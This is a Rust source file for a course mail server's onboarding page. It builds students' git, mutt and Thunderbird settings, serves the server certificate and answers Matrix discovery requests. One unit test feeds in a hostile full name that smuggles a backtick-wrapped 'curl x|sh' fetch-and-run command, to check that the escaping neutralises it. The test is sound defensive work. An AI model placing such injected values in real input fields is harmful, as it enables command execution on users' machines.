//! Mail client settings (SPEC §11 "Made for people"): the `/setup` page, the certificate at
//! `/setup/cert.pem`, the personal git configuration at `/setup/gitconfig`, and Thunderbird's
//! autoconfig XML.
//!
//! `/setup` is the whole onboarding of a student and must work when followed literally: each
//! step is a block of shell commands to paste, with the student's own values filled in, and
//! every client is pointed at the saved certificate (git send-email never asks to accept an
//! unknown one; it fails). The end-to-end journey runs the page's own blocks.

use askama::Template;
use axum::extract::State;
use axum::http::header;
use axum::response::{Html, IntoResponse, Response};

use crate::error::WebError;
use crate::session::CurrentUser;
use crate::state::{AppState, Site};
use crate::view::{self, Nav};

/// Where every setting below expects the certificate, under the student's home directory.
const CERT_PATH: &str = "~/.config/coursemail/cert.pem";

/// The server settings a mail client needs, derived from the site (pure).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MailSettings {
    /// Server name clients connect to.
    pub host: String,
    /// The mail domain of every address.
    pub domain: String,
    /// SMTP port and whether it is implicit TLS (`true`) or STARTTLS.
    pub smtp: Option<(u16, bool)>,
    /// POP3 port and whether it is implicit TLS (`true`) or STLS.
    pub pop: Option<(u16, bool)>,
}

impl MailSettings {
    /// Prefers implicit TLS (RFC 8314) and falls back to STARTTLS/STLS.
    pub fn of(site: &Site) -> MailSettings {
        let pick = |tls: Option<u16>, plain: Option<u16>| {
            tls.map(|p| (p, true)).or(plain.map(|p| (p, false)))
        };
        MailSettings {
            host: site.public_host.clone(),
            domain: site.hostname.clone(),
            smtp: pick(site.smtps_port, site.submission_port),
            pop: pick(site.pop3s_port, site.pop3_port),
        }
    }

    fn smtp_or_default(&self) -> (u16, bool) {
        self.smtp.unwrap_or((587, false))
    }

    fn pop_or_default(&self) -> (u16, bool) {
        self.pop.unwrap_or((110, false))
    }
}

/// What the page says about the certificate.
struct CertificateView {
    /// The SHA-256 fingerprint, `AB:CD:...`; empty if the certificate cannot be read.
    fingerprint: String,
    /// Self-signed: every client must be given the file. Otherwise a public authority vouches
    /// for it and clients need no certificate setting.
    self_signed: bool,
}

impl CertificateView {
    fn read(site: &AppState) -> CertificateView {
        let dir = site
            .0
            .certificate
            .parent()
            .map(std::path::Path::to_path_buf);
        let dir = dir.unwrap_or_default();
        CertificateView {
            fingerprint: net::certificate_fingerprint(&dir).unwrap_or_default(),
            // Unreadable: assume the common case, a self-signed one, so the settings stay safe.
            self_signed: net::certificate_is_self_signed(&dir).unwrap_or(true),
        }
    }
}

#[derive(Template)]
#[template(path = "setup.html")]
struct SetupPage {
    nav: Nav,
    user: String,
    full_name: String,
    domain: String,
    host: String,
    web_origin: String,
    /// `-k` for an HTTPS origin: the certificate cannot be checked before it is saved; the
    /// fingerprint step is what checks it.
    curl_insecure: bool,
    cert_path: &'static str,
    fingerprint: String,
    self_signed: bool,
    smtp_port: u16,
    smtp_tls: bool,
    pop_port: u16,
    pop_tls: bool,
    /// The personal git configuration, as in `/setup/gitconfig`.
    gitconfig: String,
    /// The full name inside muttrc double quotes.
    mutt_name: String,
    /// `Full Name <user@domain>` as an RFC 5322 address.
    from_address: String,
    /// The assignments one can send to, `(name, initial deadline)`.
    assignments: Vec<(String, String)>,
}

#[derive(Template)]
#[template(path = "autoconfig.xml")]
struct Autoconfig {
    domain: String,
    host: String,
    smtp_port: u16,
    smtp_tls: bool,
    pop_port: u16,
    pop_tls: bool,
}

/// `name` as a double-quoted gitconfig value: a name with `"`, `\\`, `;` or `#` pasted bare
/// would change or cut the value.
fn gitconfig_quoted(name: &str) -> String {
    let mut out = String::from("\"");
    for c in name.chars() {
        if matches!(c, '"' | '\\') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

/// `name` for the inside of muttrc double quotes, where mutt would run a `` `command` `` and
/// expand `$variables`: each of those characters, `"` and `\\` is escaped with a backslash.
fn muttrc_escaped(name: &str) -> String {
    let mut out = String::new();
    for c in name.chars() {
        if matches!(c, '`' | '$' | '"' | '\\') {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// `Full Name <address>` with the name as an RFC 5322 phrase: bare when it is only atoms and
/// spaces, else a quoted string with `"` and `\\` escaped.
pub fn display_address(name: &str, address: &str) -> String {
    let atom_char = |c: char| c.is_alphanumeric() || c == ' ' || "!#$%&'*+-/=?^_`{|}~".contains(c);
    if !name.is_empty() && name.chars().all(atom_char) {
        format!("{name} <{address}>")
    } else {
        let escaped: String = name
            .chars()
            .flat_map(|c| {
                let escape = matches!(c, '"' | '\\').then_some('\\');
                escape.into_iter().chain(std::iter::once(c))
            })
            .collect();
        format!("\"{escaped}\" <{address}>")
    }
}

/// The student's git configuration: identity for `git commit -s` (which must match the
/// grader's `Signed-off-by: Full Name <user@domain>`) and git send-email's server, login and
/// certificate.
pub fn gitconfig(m: &MailSettings, user: &str, full_name: &str, self_signed: bool) -> String {
    let (port, tls) = m.smtp_or_default();
    let address = format!("{user}@{}", m.domain);
    let mut out = format!(
        "[user]\n\tname = {}\n\temail = {address}\n[sendemail]\n\tsmtpServer = {}\n\t\
         smtpServerPort = {port}\n\tsmtpEncryption = {}\n\tsmtpUser = {user}\n\tfrom = {}\n\tsuppressCc = self\n",
        gitconfig_quoted(full_name),
        m.host,
        if tls { "ssl" } else { "tls" },
        gitconfig_quoted(&display_address(full_name, &address)),
    );
    if self_signed {
        out.push_str(&format!("\tsmtpSSLCertPath = {CERT_PATH}\n"));
    }
    out
}

/// `GET /setup`.
pub async fn setup(
    State(state): State<AppState>,
    user: CurrentUser,
) -> Result<Html<String>, WebError> {
    let site = &state.0.site;
    let m = MailSettings::of(site);
    let cert = CertificateView::read(&state);
    let assignments = state
        .blocking(|s| Ok(s.course.list_assignments()?))
        .await?
        .into_iter()
        .map(|a| {
            let initial = if a.dummy && a.deadlines.initial.is_none() {
                "announced by your instructor".to_string()
            } else {
                view::deadline(a.deadlines.initial, view::now())
            };
            (a.name.to_string(), initial)
        })
        .collect();
    let full_name = user.session.user.full_name.clone();
    let username = user.username().to_string();
    let (smtp_port, smtp_tls) = m.smtp_or_default();
    let (pop_port, pop_tls) = m.pop_or_default();
    let page = SetupPage {
        nav: Nav::of(&user),
        gitconfig: gitconfig(&m, &username, &full_name, cert.self_signed),
        mutt_name: muttrc_escaped(&full_name),
        from_address: display_address(&full_name, &format!("{username}@{}", m.domain)),
        user: username,
        full_name,
        domain: m.domain,
        host: m.host,
        curl_insecure: site.web_origin.starts_with("https:"),
        web_origin: site.web_origin.clone(),
        cert_path: CERT_PATH,
        fingerprint: cert.fingerprint,
        self_signed: cert.self_signed,
        smtp_port,
        smtp_tls,
        pop_port,
        pop_tls,
        assignments,
    };
    Ok(Html(page.render()?))
}

/// `GET /setup/gitconfig`: the same configuration as on the page, as a file to include.
pub async fn gitconfig_file(State(state): State<AppState>, user: CurrentUser) -> Response {
    let m = MailSettings::of(&state.0.site);
    let cert = CertificateView::read(&state);
    let body = gitconfig(
        &m,
        user.username().as_str(),
        &user.session.user.full_name,
        cert.self_signed,
    );
    (
        [
            (header::CONTENT_TYPE, "text/plain; charset=utf-8"),
            (
                header::CONTENT_DISPOSITION,
                "attachment; filename=\"coursemail.gitconfig\"",
            ),
        ],
        body,
    )
        .into_response()
}

/// `GET /setup/cert.pem`: the servers' certificate, public (it is sent to every client in
/// every TLS handshake anyway), so it can be fetched with curl before logging in anywhere.
pub async fn certificate(State(state): State<AppState>) -> Result<Response, WebError> {
    let pem = state
        .blocking(|s| {
            std::fs::read(&s.certificate).map_err(|e| {
                WebError::Interrupted(format!(
                    "cannot read the certificate {}: {e}",
                    s.certificate.display()
                ))
            })
        })
        .await?;
    Ok((
        [
            (header::CONTENT_TYPE, "application/x-pem-file"),
            (
                header::CONTENT_DISPOSITION,
                "attachment; filename=\"cert.pem\"",
            ),
        ],
        pem,
    )
        .into_response())
}

/// `GET /.well-known/autoconfig/mail/config-v1.1.xml` and `/mail/config-v1.1.xml`: public, as
/// Thunderbird asks before anyone logs in.
pub async fn autoconfig(State(state): State<AppState>) -> Result<Response, WebError> {
    let m = MailSettings::of(&state.0.site);
    let (smtp_port, smtp_tls) = m.smtp_or_default();
    let (pop_port, pop_tls) = m.pop_or_default();
    let xml = Autoconfig {
        domain: m.domain,
        host: m.host,
        smtp_port,
        smtp_tls,
        pop_port,
        pop_tls,
    }
    .render()?;
    Ok((
        [(header::CONTENT_TYPE, "application/xml; charset=utf-8")],
        xml,
    )
        .into_response())
}

/// `GET /.well-known/matrix/client`: where Matrix clients find the course chat when a student
/// types `@name:DOMAIN` (SPEC §13); 404 when no chat is configured (`[web] matrix_client_url`).
pub async fn matrix_client(State(state): State<AppState>) -> Response {
    match &state.0.site.matrix_client_url {
        Some(url) => json_with_cors(serde_json::json!({"m.homeserver": {"base_url": url}})),
        None => WebError::NotFound.into_response(),
    }
}

/// `GET /.well-known/matrix/server`: the chat's federation address (`[web] matrix_server`).
pub async fn matrix_server(State(state): State<AppState>) -> Response {
    match &state.0.site.matrix_server {
        Some(server) => json_with_cors(serde_json::json!({"m.server": server})),
        None => WebError::NotFound.into_response(),
    }
}

/// JSON that web Matrix clients may read from another origin, as the spec asks of
/// `.well-known` answers.
fn json_with_cors(value: serde_json::Value) -> Response {
    (
        [
            (header::CONTENT_TYPE, "application/json"),
            (header::ACCESS_CONTROL_ALLOW_ORIGIN, "*"),
        ],
        value.to_string(),
    )
        .into_response()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_hostile_full_name_cannot_escape_the_pasted_settings() {
        let name = r#"Bob `curl x|sh` "$HOME" \ ; # end"#;
        assert_eq!(
            muttrc_escaped(name),
            r#"Bob \`curl x|sh\` \"\$HOME\" \\ ; # end"#
        );
        assert_eq!(
            gitconfig_quoted(name),
            r#""Bob `curl x|sh` \"$HOME\" \\ ; # end""#
        );
    }

    #[test]
    fn implicit_tls_is_preferred_and_starttls_is_the_fallback() {
        let mut site = Site::local("mail.example");
        assert_eq!(MailSettings::of(&site).smtp, Some((1465, true)));
        site.smtps_port = None;
        site.pop3s_port = None;
        let m = MailSettings::of(&site);
        assert_eq!(m.smtp, Some((1587, false)));
        assert_eq!(m.pop, Some((1110, false)));
    }

    #[test]
    fn display_names_are_quoted_only_when_rfc_5322_needs_it() {
        assert_eq!(
            display_address("Alice Anders", "a@x.y"),
            "Alice Anders <a@x.y>"
        );
        assert_eq!(
            display_address("Liddell, Alice", "a@x.y"),
            "\"Liddell, Alice\" <a@x.y>"
        );
        assert_eq!(
            display_address("A \"Q\" B.", "a@x.y"),
            "\"A \\\"Q\\\" B.\" <a@x.y>"
        );
    }

    #[test]
    fn the_gitconfig_names_the_server_the_identity_and_the_certificate() {
        let mut site = Site::local("course.localhost");
        site.public_host = "localhost".into();
        let text = gitconfig(&MailSettings::of(&site), "alice", "Alice Anders", true);
        assert!(
            text.contains("\temail = alice@course.localhost\n"),
            "{text}"
        );
        assert!(text.contains("\tsmtpServer = localhost\n"), "{text}");
        assert!(
            text.contains("\tsmtpServerPort = 1465\n\tsmtpEncryption = ssl\n"),
            "{text}"
        );
        assert!(
            text.contains("\tsmtpSSLCertPath = ~/.config/coursemail/cert.pem\n"),
            "{text}"
        );
        let public = gitconfig(&MailSettings::of(&site), "alice", "Alice Anders", false);
        assert!(!public.contains("smtpSSLCertPath"), "{public}");
    }
}
